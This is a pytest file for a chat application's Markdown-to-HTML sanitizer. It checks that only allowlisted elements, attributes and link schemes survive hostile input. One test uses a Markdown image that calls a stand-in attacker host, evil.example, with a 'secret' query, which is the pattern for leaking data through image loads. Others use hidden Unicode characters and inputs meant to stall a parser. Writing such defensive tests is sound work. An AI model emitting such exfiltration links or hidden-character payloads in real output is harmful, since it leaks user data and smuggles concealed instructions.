"""HTML for programs: what Markdown means is kept, and nothing that a text wants to do comes through."""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from chat.text.html import html_of

HOSTILE = json.loads((Path(__file__).parents[1] / "browser_render" / "hostile.json").read_text())
ELEMENTS = {
    *("a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"),
    *("p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}


class Seen(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def test_markdown_becomes_the_elements_it_means() -> None:
    html = html_of(
        "## Returns\n\nWithin **30 days**, ~~not 14~~, see [the *rules*](https://example.com/?a=1&b=2).\n\n"
        "3. pack\n4. send\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nif a < b: pass\n```\n"
    )
    assert "<h2>Returns</h2>" in html
    assert "<strong>30 days</strong>, <s>not 14</s>" in html
    assert '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">' in html
    assert '<ol start="3">' in html
    assert "<td>2</td>" in html
    assert '<code class="language-python">if a &lt; b: pass\n</code>' in html


@pytest.mark.parametrize("family", sorted({one["family"] for one in HOSTILE}))
def test_of_a_hostile_text_only_harmless_elements_come_through(family: str) -> None:
    for text in (one["text"] for one in HOSTILE if one["family"] == family):
        for tag, attributes in Seen(html_of(text)).elements:
            assert tag in ELEMENTS, (text, tag)
            assert attributes.keys() <= {"href", "rel", "class", "start"}, (text, attributes)
            address = attributes.get("href")
            assert address is None or address.lower().startswith(("http://", "https://", "mailto:")), text


def test_an_image_is_a_link_that_somebody_has_to_follow() -> None:
    seen = Seen(html_of("![secret](https://evil.example/?q=secret)"))
    assert [tag for tag, _ in seen.elements] == ["p", "a"]


def test_what_nobody_sees_does_not_come_through() -> None:
    assert html_of("a\u200bb \U000e0073\U000e0065c \u202ed\x00e\ud800f") == "<p>ab c def</p>\n"


@pytest.mark.parametrize("piece", ["[", "![a", "[a][", "[a]("])
def test_a_text_that_would_take_long_comes_as_it_was_written(piece: str) -> None:
    text = piece * (200_000 // len(piece)) + "<b>"
    began = time.process_time()
    html = html_of(text)
    assert time.process_time() - began < 2
    assert Seen(html).elements == [("pre", {})]
    assert Seen(html).text.strip() == text
